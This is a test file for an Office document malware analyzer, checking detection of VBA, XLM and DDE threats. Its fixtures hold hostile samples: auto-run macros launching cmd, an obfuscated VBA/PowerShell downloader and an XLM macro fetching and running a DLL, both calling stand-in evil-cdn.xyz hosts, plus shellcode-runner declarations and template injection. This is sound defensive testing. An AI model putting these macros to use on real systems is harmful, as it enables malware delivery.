import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import * as CFB from 'cfb';
import { AnalysisPipeline } from '../pipeline';
import { testEngineOptions } from '../testing/engine-options';
import { fileContext } from '../testing/file-context';
import { addVbaProject, docx, oleObjectBin, pptWithStorages, ptg, ptg12, TestModule, vbaProjectBin, vbaSource, wordDoc, writeCfb, xlsb, xlsm, xlsWithMacroSheet } from '../testing/office-documents';
import { zipArchive } from '../testing/zip-writer';
import { AnalyzerResult, Verdict } from '../types';
import { defaultAnalyzers } from '.';
import { OfficeAnalyzer } from './office.analyzer';

/**
 * The Office analyzer on documents built at test time (VBA projects compressed by the test-side
 * MS-OVBA compressor, compound files written by `cfb`, OOXML zips written by the test zip writer)
 * and on the harmless clamav test documents.
 */
const CLAM = '/usr/share/clamav-testfiles';
const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
const CLAM_EXE_SHA256 = sha256(new Uint8Array(readFileSync(`${CLAM}/clam.exe`)));

const analyzer = new OfficeAnalyzer();
const run = (data: Uint8Array, name: string, overrides = {}) => analyzer.analyze(fileContext(data, name, overrides));
const ids = (r: AnalyzerResult) => (r.signals ?? []).map((s) => s.id).sort();
const signal = (r: AnalyzerResult, id: string) => r.signals?.find((s) => s.id === id);
// eslint-disable-next-line @typescript-eslint/no-explicit-any
const office = (r: AnalyzerResult) => r.facts!.office as any;
const pipeline = new AnalysisPipeline(defaultAnalyzers());
const analyse = (name: string, data: Uint8Array) => pipeline.analyze({ name, data }, testEngineOptions());

const AUTO_SHELL = vbaSource('NewMacros', `
Sub AutoOpen()
    Dim result
    result = Shell("cmd.exe /c calc.exe", vbHide)
End Sub
`);
const FORMATTING = vbaSource('Formatting', `
' Formats the selected table: bold header row, banded rows.
Sub FormatTable()
    Dim t As Table
    Set t = Selection.Tables(1)
    t.Rows(1).Range.Font.Bold = True
    t.Shading.BackgroundPatternColor = wdColorGray10
End Sub
`);

/** The workbook the XLM tests build in each format: Sheet1, and a very hidden Macro1 with =EXEC("cmd /c calc.exe") and =HALT() run by Auto_Open. */
function expectExecHaltMacroSheet(result: AnalyzerResult): void {
  const { xlm } = office(result);
  expect(xlm.sheets).toEqual([
    { name: 'Sheet1', type: 'worksheet', state: 'visible' },
    { name: 'Macro1', type: 'macro', state: 'very hidden' },
  ]);
  expect(xlm.formulas).toEqual([
    { sheet: 'Macro1', cell: 'A1', formula: '=EXEC("cmd /c calc.exe")' },
    { sheet: 'Macro1', cell: 'A2', formula: '=HALT()' },
  ]);
  expect(xlm.autoOpen).toEqual(['Auto_Open → SHEET#1!A1']);
  expect(ids(result)).toEqual(['office.xlm_autoexec', 'office.xlm_execution', 'office.xlm_hidden', 'office.xlm_macro']);
}

describe('OfficeAnalyzer', () => {
  it('applies to OLE and OOXML documents only', () => {
    expect(analyzer.appliesTo(fileContext(docx(), 'a.docx'))).toBe(true);
    expect(analyzer.appliesTo(fileContext(wordDoc(), 'a.doc'))).toBe(true);
    expect(analyzer.appliesTo(fileContext(zipArchive([{ name: 'a.txt', data: new Uint8Array(3) }]), 'a.zip'))).toBe(false);
    expect(analyzer.appliesTo(fileContext('{\\rtf1 hello}', 'a.rtf'))).toBe(false);
  });

  describe('VBA in OOXML', () => {
    it('decompresses the macro source exactly, finds AutoOpen and Shell, and types the document', async () => {
      const result = await run(docx({ macros: [{ name: 'NewMacros', source: AUTO_SHELL }] }), 'invoice.docm');
      const facts = office(result);
      expect(facts).toMatchObject({ format: 'ooxml', application: 'Word', type: 'Word macro-enabled document', extension: 'docm', macroEnabled: true, template: false });
      expect(facts.metadata).toEqual({ title: 'Quarterly report', author: 'Alice Author', lastModifiedBy: 'Bob Editor', revision: '3', created: '2024-01-02T03:04:05Z', modified: '2024-02-03T04:05:06Z' });
      const [project] = facts.vba.projects;
      expect(project).toMatchObject({ storage: 'word/vbaProject.bin', name: 'VBAProject', codepage: 1252 });
      expect(project.modules).toEqual([{ name: 'NewMacros', stream: 'NewMacros', type: 'standard', sourceBytes: AUTO_SHELL.length, pcodeBytes: 0, code: AUTO_SHELL }]);
      expect(facts.vba.autoExec).toEqual([{ name: 'AutoOpen', module: 'NewMacros' }]);
      expect(facts.vba.suspicious).toEqual([{ keyword: 'Shell', category: 'execution', description: 'runs an executable or a system command', count: 1 }]);
      expect(ids(result)).toEqual(['office.vba_autoexec', 'office.vba_autoexec_execution', 'office.vba_macro', 'office.vba_shell']);
      expect(signal(result, 'office.vba_autoexec_execution')!.evidence).toEqual(['AutoOpen (module NewMacros)', 'Shell ×1: runs an executable or a system command']);
      expect(result.tags).toContain('macro');
      expect(result.issues).toEqual([]);
    });

    it('recognises the auto-exec entry points of Word, Excel and PowerPoint, and ignores commented-out calls', async () => {
      const source = vbaSource('ThisDocument', `
Private Sub Document_Open()
End Sub
Sub AutoExec()
End Sub
Public Sub Auto_Close()
End Sub
Sub Workbook_BeforeClose(Cancel As Boolean)
End Sub
Private Sub DocumentBeforeClose()
End Sub
Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)
End Sub
Sub NotAutomatic()
    ' Shell "calc.exe"  (commented out: not a call)
    MsgBox "AutoOpen is only mentioned here"
End Sub
`);
      const result = await run(docx({ macros: [{ name: 'ThisDocument', type: 'document', source }] }), 'auto.docm');
      expect(office(result).vba.autoExec.map((a: { name: string }) => a.name)).toEqual(['Document_Open', 'AutoExec', 'Auto_Close', 'Workbook_BeforeClose', 'DocumentBeforeClose', 'InkPicture1_Painted']);
      expect(office(result).vba.projects[0].modules[0].type).toBe('document/class');
      expect(ids(result)).toEqual(['office.vba_autoexec', 'office.vba_macro']);
    });

    it('a harmless formatting macro without auto-exec is at most INFORMATIONAL through the pipeline', async () => {
      const analysis = await analyse('report.docm', docx({ macros: [{ name: 'Formatting', source: FORMATTING }] }));
      const [root] = analysis.files;
      expect(root.signals.map((s) => s.id)).toEqual(['office.vba_macro']);
      expect(analysis.verdict.verdict).toBe(Verdict.Informational);
    });

    it('a docm with AutoOpen + Shell is at least SUSPICIOUS through the whole pipeline', async () => {
      const analysis = await analyse('invoice.docm', docx({ macros: [{ name: 'NewMacros', source: AUTO_SHELL }] }));
      const [root] = analysis.files;
      expect(root.analyzers).toContain('office');
      expect(root.signals.map((s) => s.id)).toEqual(expect.arrayContaining(['office.vba_autoexec', 'office.vba_autoexec_execution']));
      expect([Verdict.Suspicious, Verdict.LikelyMalicious, Verdict.Malicious]).toContain(analysis.verdict.verdict);
      expect(analysis.verdict.verdict).toBe(Verdict.LikelyMalicious);
    });

    it('decodes Chr() chains, StrReverse and PowerShell -enc, counts obfuscation, and reports the hidden URLs as vba IOCs', async () => {
      const url = 'http://update.evil-cdn.xyz/stage2.exe';
      const chr = [...url].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ');
      const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://ps.evil-cdn.xyz/a.ps1')", 'utf16le').toString('base64');
      const source = vbaSource('Module1', `
Sub Document_Open()
    Dim u As String, o As Object
    u = ${chr}
    Set o = CreateObject(StrReverse("llehS.tpircSW"))
    o.Run "powershell -nop -w hidden -enc ${encoded}", 0
    Set x = CreateObject("MSXML2.XMLHTTP")
    Set s = CreateObject("ADODB.Stream")
    p = Environ("TEMP") & "\\\\a.exe"
End Sub
`);
      const result = await run(docx({ macros: [{ name: 'Module1', source }] }), 'obf.docm');
      const vba = office(result).vba;
      expect(vba.deobfuscated).toEqual(expect.arrayContaining([url, 'WScript.Shell', "IEX (New-Object Net.WebClient).DownloadString('https://ps.evil-cdn.xyz/a.ps1')"]));
      expect(vba.obfuscation).toMatchObject({ chrCalls: url.length, strReverse: 1, obfuscated: true });
      expect(vba.powershell[0]).toMatch(/^powershell -nop -w hidden -enc /);
      expect(ids(result)).toEqual(
        ['office.vba_autoexec', 'office.vba_autoexec_execution', 'office.vba_download', 'office.vba_macro', 'office.vba_obfuscation', 'office.vba_powershell', 'office.vba_shell', 'office.vba_suspicious_calls'].sort(),
      );
      expect(result.iocs).toEqual(
        expect.arrayContaining([
          { type: 'url', value: url, origin: 'vba' },
          { type: 'domain', value: 'update.evil-cdn.xyz', origin: 'vba' },
          { type: 'url', value: 'https://ps.evil-cdn.xyz/a.ps1', origin: 'vba' },
        ]),
      );
    });

    it('tells API declarations apart from a shellcode runner', async () => {
      const sleepOnly = vbaSource('Module1', `
Private Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal ms As LongPtr)
Sub Wait()
    Sleep 100
End Sub
`);
      const plain = await run(docx({ macros: [{ name: 'Module1', source: sleepOnly }] }), 'a.docm');
      expect(ids(plain)).toEqual(['office.vba_api_declarations', 'office.vba_macro']);
      expect(office(plain).vba.apiDeclarations).toEqual([{ name: 'Sleep', lib: 'kernel32' }]);

      const runner = vbaSource('Module1', `
Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr, ByRef s As Any, ByVal l As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr
Sub Workbook_Open()
End Sub
`);
      const result = await run(xlsm({ macros: [{ name: 'Module1', source: runner }] }), 'runner.xlsm');
      expect(ids(result)).toEqual(['office.vba_autoexec', 'office.vba_autoexec_execution', 'office.vba_macro', 'office.vba_shellcode_api']);
      expect(signal(result, 'office.vba_shellcode_api')!.evidence).toEqual(['VirtualAlloc', 'RtlMoveMemory', 'CreateThread']);
    });

    it('hints at VBA stomping: p-code literals the source does not have, and modules hidden from the editor', async () => {
      const pcode = new Uint8Array(Buffer.concat([Buffer.alloc(64, 0xfe), Buffer.from([0x24, 0x00]), Buffer.from('http://stomp.evil-cdn.xyz/payload.exe'), Buffer.alloc(64, 0xfe)]));
      const modules: TestModule[] = [
        { name: 'Module1', source: vbaSource('Module1', ''), pcode },
        { name: 'Hidden', source: vbaSource('Hidden', 'Sub X()\nEnd Sub'), hidden: true },
      ];
      const cfb = CFB.utils.cfb_new();
      addVbaProject(cfb, '', modules, 0x00b2);
      const result = await run(docx({ parts: [{ name: 'word/vbaProject.bin', data: writeCfb(cfb) }] }), 'stomped.docx');
      const vba = office(result).vba;
      expect(vba.projects[0].pcodeVersion).toBe(0xb2);
      expect(vba.projects[0].modules[0]).toMatchObject({ name: 'Module1', pcodeBytes: pcode.length, code: 'Attribute VB_Name = "Module1"\r\n' });
      expect(vba.stomping).toEqual(['module Module1: p-code holds "http://stomp.evil-cdn.xyz/payload.exe" absent from the source']);
      expect(ids(result)).toEqual(['office.vba_hidden_module', 'office.vba_macro', 'office.vba_stomping']);
      expect(signal(result, 'office.vba_hidden_module')!.evidence).toEqual(['Hidden (word/vbaProject.bin)']);
      // The content type says macro-free while the package holds a VBA project.
      expect(office(result)).toMatchObject({ macroEnabled: true, type: 'Word document with VBA macros (content type says macro-free)' });
    });
  });

  describe('OOXML without macros', () => {
    it('a plain docx is NO_THREAT through the pipeline, with its type and metadata', async () => {
      const analysis = await analyse('minutes.docx', docx());
      const [root] = analysis.files;
      expect(root.signals).toEqual([]);
      expect(root.issues).toEqual([]);
      expect(root.resources.office).toMatchObject({ format: 'ooxml', type: 'Word document', extension: 'docx', macroEnabled: false, encrypted: false, metadata: { author: 'Alice Author' } });
      expect(analysis.verdict.verdict).toBe(Verdict.NoThreat);
    });

    it('remote template injection raises office.template_injection with the URL as an IOC; a local template does not', async () => {
      const url = 'https://templates.evil-cdn.xyz/invoice.dotm';
      const result = await run(docx({ attachedTemplate: url }), 'invoice.docx');
      expect(ids(result)).toEqual(['office.template_injection']);
      expect(signal(result, 'office.template_injection')!.evidence).toEqual([`word/settings.xml: attachedTemplate → ${url}`]);
      expect(office(result).externalReferences).toEqual([{ source: 'word/settings.xml', kind: 'template', type: 'attachedTemplate', target: url, remote: true }]);
      expect(result.iocs).toEqual(expect.arrayContaining([{ type: 'url', value: url, origin: 'office-relationship' }, { type: 'domain', value: 'templates.evil-cdn.xyz', origin: 'office-relationship' }]));

      const unc = await run(docx({ attachedTemplate: '\\\\203.0.113.250@80\\share\\t.dotm' }), 'unc.docx');
      expect(ids(unc)).toEqual(['office.template_injection']);

      const local = await run(docx({ attachedTemplate: 'file:///C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm' }), 'local.docx');
      expect(ids(local)).toEqual([]);

      const analysis = await analyse('invoice.docx', docx({ attachedTemplate: url }));
      expect(analysis.verdict.verdict).toBe(Verdict.LikelyMalicious);
      expect(analysis.files[0].iocs).toEqual(expect.arrayContaining([{ type: 'url', value: url, origins: ['office-relationship'] }]));
    });

    it('remote OLE objects and frames are flagged; external hyperlinks only give IOCs', async () => {
      const result = await run(
        docx({
          documentRels: [
            ['oleObject', 'http://198.51.9.20/rtf.doc', true],
            ['hyperlink', 'https://www.partner-site.com/contact', true],
          ],
        }),
        'links.docx',
      );
      expect(ids(result)).toEqual(['office.remote_object']);
      expect(signal(result, 'office.remote_object')!.evidence).toEqual(['word/document.xml: oleObject → http://198.51.9.20/rtf.doc']);
      expect(result.iocs).toEqual(expect.arrayContaining([{ type: 'url', value: 'https://www.partner-site.com/contact', origin: 'office-relationship' }]));
    });

    it('detects DDE fields, complex (split over runs) and simple', async () => {
      const complex =
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\</w:instrText></w:r>' +
        '<w:r><w:instrText>cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
      const result = await run(docx({ body: complex }), 'dde.docx');
      expect(office(result).fields).toEqual([{ kind: 'dde', code: 'DDEAUTO', instruction: 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', where: 'word/document.xml' }]);
      expect(ids(result)).toEqual(['office.dde']);
      expect(signal(result, 'office.dde')).toMatchObject({ verdict: Verdict.LikelyMalicious });
      expect(result.tags).toContain('dde');

      const simple = await run(docx({ body: '<w:p><w:fldSimple w:instr="DDE Excel &quot;Sheet1&quot; R1C1"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>' }), 'dde2.docx');
      expect(ids(simple)).toEqual(['office.dde']);
      expect(signal(simple, 'office.dde')!.verdict).toBeUndefined();

      const hyperlink = await run(docx({ body: '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://intranet.corp-portal.net/page&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' }), 'h.docx');
      expect(ids(hyperlink)).toEqual([]);
      expect(hyperlink.iocs).toEqual(expect.arrayContaining([{ type: 'url', value: 'https://intranet.corp-portal.net/page', origin: 'office-field' }]));
    });

    it('detects a very hidden XLM macro sheet with Auto_Open and EXEC in an xlsm', async () => {
      const result = await run(
        xlsm({
          macroSheet: {
            name: 'Macro1',
            state: 'veryHidden',
            cells: [
              ['A1', 'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Dl",,1,9)'],
              ['A2', 'Dl(0,"http://xlm.evil-cdn.xyz/p.dll","C:\\Users\\Public\\p.dll",0,0)'],
              ['A3', 'EXEC("rundll32.exe C:\\Users\\Public\\p.dll,Start")'],
              ['A4', 'HALT()'],
            ],
          },
          autoOpen: 'Macro1!$A$1',
        }),
        'book.xlsm',
      );
      const facts = office(result);
      expect(facts).toMatchObject({ application: 'Excel', type: 'Excel macro-enabled workbook', extension: 'xlsm', macroEnabled: true });
      expect(facts.xlm.sheets).toEqual([
        { name: 'Sheet1', type: 'worksheet', state: 'visible' },
        { name: 'Macro1', type: 'macro', state: 'very hidden' },
      ]);
      expect(facts.xlm.autoOpen).toEqual(['Auto_Open → Macro1!$A$1']);
      expect(facts.xlm.formulas[2]).toEqual({ sheet: 'Macro1', cell: 'A3', formula: '=EXEC("rundll32.exe C:\\Users\\Public\\p.dll,Start")' });
      expect(facts.xlm.functions).toEqual(expect.arrayContaining(['REGISTER', 'EXEC', 'HALT']));
      expect(ids(result)).toEqual(['office.xlm_autoexec', 'office.xlm_execution', 'office.xlm_hidden', 'office.xlm_macro']);
      expect(result.iocs).toEqual(expect.arrayContaining([{ type: 'url', value: 'http://xlm.evil-cdn.xyz/p.dll', origin: 'xlm' }]));
      const analysis = await analyse('book.xlsm', xlsm({ macroSheet: { name: 'M', state: 'hidden', cells: [['A1', 'EXEC("calc")']] } }));
      expect(analysis.verdict.verdict).toBe(Verdict.LikelyMalicious);
    });

    it('renders the XLM formulas of a very hidden macro sheet in an Excel binary workbook (.xlsb, BIFF12)', async () => {
      const book = xlsb({ formulas: [Buffer.concat([ptg12.str('cmd /c calc.exe'), ptg12.funcVar(110, 1)]), ptg12.funcVar(54, 0)] });
      const result = await run(book, 'book.xlsb');
      expect(office(result)).toMatchObject({ application: 'Excel', type: 'Excel binary workbook', extension: 'xlsb' });
      expectExecHaltMacroSheet(result);
    });

    it('extracts Ole10Native payloads of embedded OLE objects and other embeddings whole', async () => {
      const script = new Uint8Array(Buffer.from('@echo off\r\nstart calc.exe\r\n'));
      const inner = docx();
      const result = await run(
        docx({
          parts: [
            { name: 'word/embeddings/oleObject1.bin', data: oleObjectBin('C:\\Users\\bob\\Desktop\\run.bat', script) },
            { name: 'word/embeddings/Microsoft_Word_Document.docx', data: inner },
          ],
        }),
        'objects.docx',
      );
      expect(result.children!.map((c) => ({ name: c.name, relation: c.relation, sha256: sha256(c.data) }))).toEqual([
        { name: 'run.bat', relation: 'ole10native', sha256: sha256(script) },
        { name: 'Microsoft_Word_Document.docx', relation: 'ooxml-embedding', sha256: sha256(inner) },
      ]);
      expect(office(result).objects[0]).toMatchObject({ location: 'word/embeddings/oleObject1.bin/\\x01Ole10Native', fileName: 'C:\\Users\\bob\\Desktop\\run.bat', kind: 'batch', executable: true, extractedAs: 'run.bat' });
      expect(ids(result)).toEqual(['office.embedded_executable', 'office.embedded_object']);
    });
  });

  describe('OLE documents', () => {
    it('extracts VBA from the Macros storage of a .doc built with cfb, with the SummaryInformation metadata', async () => {
      const created = new Date('2023-05-06T07:08:09Z');
      const doc = wordDoc({ macros: [{ name: 'ThisDocument', type: 'document', source: vbaSource('ThisDocument', 'Sub Document_Open()\nEnd Sub') }, { name: 'NewMacros', source: AUTO_SHELL }], summary: { title: 'Invoice', author: 'Mallory', lastAuthor: 'Eve', appName: 'Microsoft Office Word', created } });
      const result = await run(doc, 'invoice.doc');
      const facts = office(result);
      expect(facts).toMatchObject({ format: 'ole', application: 'Word', type: 'Word 97-2003 document with VBA macros', extension: 'doc', macroEnabled: true, template: false });
      expect(facts.metadata).toEqual({ title: 'Invoice', author: 'Mallory', lastModifiedBy: 'Eve', application: 'Microsoft Office Word', created: created.toISOString(), codepage: 1252 });
      expect(facts.vba.projects[0].storage).toBe('Macros');
      expect(facts.vba.projects[0].modules.map((m: { name: string; code: string }) => [m.name, m.code])).toEqual([
        ['ThisDocument', vbaSource('ThisDocument', 'Sub Document_Open()\nEnd Sub')],
        ['NewMacros', AUTO_SHELL],
      ]);
      expect(facts.vba.autoExec).toEqual([
        { name: 'Document_Open', module: 'ThisDocument' },
        { name: 'AutoOpen', module: 'NewMacros' },
      ]);
      expect(ids(result)).toEqual(['office.vba_autoexec', 'office.vba_autoexec_execution', 'office.vba_macro', 'office.vba_shell']);
    });

    it('finds DDE field codes in the WordDocument stream of a .doc', async () => {
      const result = await run(wordDoc({ text: 'Dear customer,\r\u0013 DDEAUTO "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe" "/c calc"\u0014\u0015\r' }), 'dde.doc');
      expect(office(result).fields).toHaveLength(1);
      expect(office(result).fields[0]).toMatchObject({ kind: 'dde', code: 'DDEAUTO', where: 'WordDocument' });
      expect(signal(result, 'office.dde')!.verdict).toBe(Verdict.LikelyMalicious);
    });

    it('renders the formulas of an Excel 97 macro sheet (BIFF8) and flags EXEC', async () => {
      const xls = xlsWithMacroSheet({
        formulas: [
          { row: 0, col: 0, rgce: Buffer.concat([ptg.str('cmd /c calc.exe'), ptg.funcVar(110, 1)]) },
          { row: 1, col: 0, rgce: ptg.funcVar(54, 0) },
        ],
      });
      const result = await run(xls, 'book.xls');
      expect(office(result)).toMatchObject({ application: 'Excel', type: 'Excel 97-2003 workbook', extension: 'xls' });
      expectExecHaltMacroSheet(result);
    });

    it('reads VBA from _VBA_PROJECT_CUR and DDE links (SupBook) of an Excel 97 workbook', async () => {
      const xls = xlsWithMacroSheet({ formulas: [], autoOpen: false, state: 0, ddeLink: ['cmd', "/c calc.exe"], vba: [{ name: 'ThisWorkbook', type: 'document', source: vbaSource('ThisWorkbook', 'Private Sub Workbook_Open()\n  MsgBox "hi"\nEnd Sub') }] });
      const result = await run(xls, 'book.xls');
      expect(office(result).vba.projects[0]).toMatchObject({ storage: '_VBA_PROJECT_CUR', modules: [{ name: 'ThisWorkbook', type: 'document/class' }] });
      expect(office(result).vba.autoExec).toEqual([{ name: 'Workbook_Open', module: 'ThisWorkbook' }]);
      expect(office(result).fields).toEqual([{ kind: 'dde', code: 'DDE', instruction: 'DDE cmd /c calc.exe', where: 'Workbook' }]);
      expect(ids(result)).toEqual(['office.dde', 'office.vba_autoexec', 'office.vba_macro', 'office.xlm_macro']);
      expect(signal(result, 'office.dde')!.verdict).toBe(Verdict.LikelyMalicious);
    });

    it('clam.ole.doc: the embedded Packager object is extracted as clam.exe (the sha256 of clamav-testfiles/clam.exe)', async () => {
      const data = new Uint8Array(readFileSync(`${CLAM}/clam.ole.doc`));
      const result = await run(data, 'clam.ole.doc');
      expect(result.children!.map((c) => ({ name: c.name, relation: c.relation, sha256: sha256(c.data) }))).toEqual([{ name: 'clam.exe', relation: 'ole10native', sha256: CLAM_EXE_SHA256 }]);
      expect(office(result).objects).toEqual([{ location: 'ObjectPool/_1279313719/\\x01Ole10Native', className: 'Package', size: 544, fileName: 'C:\\clam.exe', kind: 'pe', executable: true, extractedAs: 'clam.exe' }]);
      expect(office(result).metadata).toMatchObject({ author: 'acab', lastModifiedBy: 'acab', application: 'Microsoft Office Word', created: '2008-08-03T22:09:00.000Z' });
      expect(ids(result)).toEqual(['office.embedded_executable', 'office.embedded_object']);

      const analysis = await analyse('clam.ole.doc', data);
      expect(analysis.files.map((f) => [f.name, f.relation, f.identity.kind, f.digests.sha256])).toEqual([
        ['clam.ole.doc', null, 'ole', sha256(data)],
        ['clam.exe', 'ole10native', 'pe', CLAM_EXE_SHA256],
      ]);
    });

    it('clam.ppt: the Packager object inside the PowerPoint Document stream (compressed ExOleObjStg) is extracted as clam.exe', async () => {
      const result = await run(new Uint8Array(readFileSync(`${CLAM}/clam.ppt`)), 'clam.ppt');
      expect(result.children!.map((c) => ({ name: c.name, relation: c.relation, sha256: sha256(c.data) }))).toEqual([{ name: 'clam.exe', relation: 'ole10native', sha256: CLAM_EXE_SHA256 }]);
      expect(office(result).objects).toEqual([
        { location: 'PowerPoint Document@0x1146/\\x01Ole10Native', className: 'Package', size: 544, fileName: 'C:\\Tools\\clam.exe', kind: 'pe', executable: true, extractedAs: 'clam.exe' },
      ]);
      expect(ids(result)).toEqual(['office.embedded_executable', 'office.embedded_object']);
    });

    it('reads the VBA project a PowerPoint 97 presentation keeps in its PowerPoint Document stream', async () => {
      const ppt = pptWithStorages([oleObjectBin('readme.txt', Buffer.from('notes')), vbaProjectBin([{ name: 'Module1', source: AUTO_SHELL }])]);
      const result = await run(ppt, 'deck.ppt');
      const facts = office(result);
      expect(facts).toMatchObject({ application: 'PowerPoint', type: 'PowerPoint 97-2003 presentation with VBA macros', extension: 'ppt', macroEnabled: true });
      const storage = facts.vba.projects[0].storage;
      expect(storage).toMatch(/^PowerPoint Document@0x[0-9a-f]+$/);
      expect(facts.vba.projects[0].modules.map((m: { name: string; code: string }) => [m.name, m.code])).toEqual([['Module1', AUTO_SHELL]]);
      expect(facts.objects.map((o: { location: string; fileName: string }) => [o.location, o.fileName])).toEqual([['PowerPoint Document@0x8/\\x01Ole10Native', 'readme.txt']]);
      expect(ids(result)).toEqual(expect.arrayContaining(['office.vba_macro', 'office.vba_shell']));
    });

    it('types clam.ppt, an Outlook message and a bare vbaProject.bin', async () => {
      expect(office(await run(new Uint8Array(readFileSync(`${CLAM}/clam.ppt`)), 'clam.ppt'))).toMatchObject({ application: 'PowerPoint', type: 'PowerPoint 97-2003 presentation', extension: 'ppt', metadata: { title: 'This is a ClamAV test file with embedded clam.exe' } });
      const cfb = CFB.utils.cfb_new();
      CFB.utils.cfb_add(cfb, '__properties_version1.0', Buffer.alloc(32));
      CFB.utils.cfb_add(cfb, '__substg1.0_0037001F', Buffer.from('Subject', 'utf16le'));
      expect(office(await run(writeCfb(cfb), 'mail.msg'))).toMatchObject({ application: 'Outlook', extension: 'msg' });
      const msi = CFB.utils.cfb_new();
      msi.FileIndex[0].clsid = '84100c0000000000c000000000000046'; // {000C1084-0000-0000-C000-000000000046}, as cfb writes it (bytes in file order)
      CFB.utils.cfb_add(msi, '\u4840\u3b3f\u43f2\u4438\u45b1', Buffer.alloc(64));
      expect(office(await run(writeCfb(msi), 'setup.msi'))).toMatchObject({ application: 'Installer', type: 'Windows Installer package (MSI)', extension: 'msi' });
      const bare = await run(vbaProjectBin([{ name: 'Module1', source: FORMATTING }]), 'vbaProject.bin');
      expect(office(bare)).toMatchObject({ application: 'VBA', macroEnabled: true });
      expect(ids(bare)).toEqual(['office.vba_macro']);
    });

    it('notes encrypted documents', async () => {
      const cfb = CFB.utils.cfb_new();
      CFB.utils.cfb_add(cfb, 'EncryptionInfo', Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]));
      CFB.utils.cfb_add(cfb, 'EncryptedPackage', Buffer.alloc(5000, 0x5a));
      const agile = await run(writeCfb(cfb), 'secret.docx');
      expect(office(agile)).toMatchObject({ encrypted: true, encryption: 'Office Open XML encryption (EncryptedPackage, agile 4.4)' });
      expect(ids(agile)).toEqual(['office.encrypted']);

      const rc4 = await run(wordDoc({ encrypted: true }), 'secret.doc');
      expect(office(rc4).encryption).toBe('Word RC4 encryption');
      expect(ids(rc4)).toEqual(['office.encrypted']);

      const xls = await run(xlsWithMacroSheet({ formulas: [], filePass: true, autoOpen: false }), 'secret.xls');
      expect(office(xls)).toMatchObject({ encrypted: true, encryption: 'Excel RC4 encryption (FilePass)' });
      expect(office(xls).xlm.encrypted).toBe(true);
      expect(ids(xls)).toEqual(expect.arrayContaining(['office.encrypted']));

      const analysis = await analyse('secret.docx', writeCfb(cfb));
      expect(analysis.verdict.verdict).toBe(Verdict.Informational);
    });
  });

  describe('damaged input', () => {
    it('a truncated or corrupt compound file ends as issues, never a throw', async () => {
      const doc = wordDoc({ macros: [{ name: 'NewMacros', source: AUTO_SHELL }] });
      const truncated = await run(doc.subarray(0, Math.floor(doc.length / 2)), 'cut.doc');
      expect(truncated.issues!.length).toBeGreaterThan(0);
      expect(truncated.issues!.every((i) => i.analyzer === 'office' && i.kind === 'error')).toBe(true);
      expect(truncated.issues!.map((i) => i.message)).toContain('compound file: sector 11 lies outside the file');
      // What could be read is still reported: the type, and the VBA project whose streams were cut.
      expect(office(truncated)).toMatchObject({ type: 'Word 97-2003 document with VBA macros', encrypted: false });

      const header = new Uint8Array(doc.subarray(0, 512));
      const headerOnly = await run(header, 'header.doc');
      expect(headerOnly.issues).toEqual([expect.objectContaining({ analyzer: 'office', kind: 'error' })]);

      const garbage = new Uint8Array(doc);
      for (let i = 512; i < garbage.length; i += 7) garbage[i] ^= 0xa5;
      const scrambled = await run(garbage, 'scrambled.doc');
      expect(scrambled.facts!.office).toBeDefined();
      expect(scrambled.issues!.some((i) => /^compound file: /.test(i.message))).toBe(true);

      const analysis = await analyse('cut.doc', doc.subarray(0, Math.floor(doc.length / 2)));
      expect(analysis.files[0].issues.some((i) => i.analyzer === 'office')).toBe(true);
    });

    it('a zip that claims to be a docx but has broken XML: issues recorded, no throw', async () => {
      const broken = docx({ documentXml: '<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:r><w:t>unclosed</w:r></w:body>' });
      const result = await run(broken, 'broken.docx');
      expect(result.issues).toEqual([expect.objectContaining({ analyzer: 'office', kind: 'error', message: expect.stringMatching(/^word\/document\.xml: not well-formed XML \(<\/w:r> at offset \d+ closes <w:t>\)$/) })]);
      expect(office(result).type).toBe('Word document');

      // Deflate data damaged in the middle of document.xml, and a missing central directory.
      const good = docx({ deflate: true });
      const damaged = new Uint8Array(good);
      const at = Buffer.from(good).indexOf('word/document.xml') + 'word/document.xml'.length + 4;
      for (let i = at; i < at + 40; i++) damaged[i] ^= 0xff;
      const corrupt = await run(damaged, 'corrupt.docx');
      expect(corrupt.issues).toEqual([expect.objectContaining({ analyzer: 'office', kind: 'error', message: expect.stringMatching(/^word\/document\.xml: /) })]);
      const noDirectory = await run(good.subarray(0, Buffer.from(good).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]))), 'cut.docx');
      expect(noDirectory.issues!.map((i) => i.message)).toContain('zip: no end of central directory record (truncated or damaged zip)');
      expect(office(noDirectory).type).toBe('Word document');

      const analysis = await analyse('broken.docx', broken);
      expect(analysis.verdict.verdict).toBe(Verdict.Unknown);
    });

    it('stops at its time budget with a timeout issue', async () => {
      const aborted = new AbortController();
      aborted.abort();
      const result = await run(docx({ macros: [{ name: 'NewMacros', source: AUTO_SHELL }] }), 'slow.docm', { signal: aborted.signal });
